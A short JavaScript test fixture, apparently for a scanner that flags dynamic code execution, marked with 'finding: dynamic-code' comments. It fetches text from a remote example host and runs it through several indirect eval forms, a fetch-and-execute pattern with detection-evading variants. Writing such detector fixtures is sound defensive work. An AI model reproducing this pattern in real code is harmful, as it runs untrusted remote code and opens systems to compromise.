'use strict';

const go = Reflect.get(globalThis, 'eval'); // finding: dynamic-code
const plan = httprequest.get('https://api.dominoes.example/plan.txt');

const x = go(plan);
const y = Reflect.apply(eval, undefined, [plan]); // finding: dynamic-code
const z = [plan].map(eval)[0]; // finding: dynamic-code
const q = eval?.(plan); // finding: dynamic-code

datagrid.addColumn('Result', datagrid.DATA_TYPE_STRING);
[x, y, z, q].forEach((v) => {
  datagrid.addCell(String(v));
  datagrid.endRow();
});
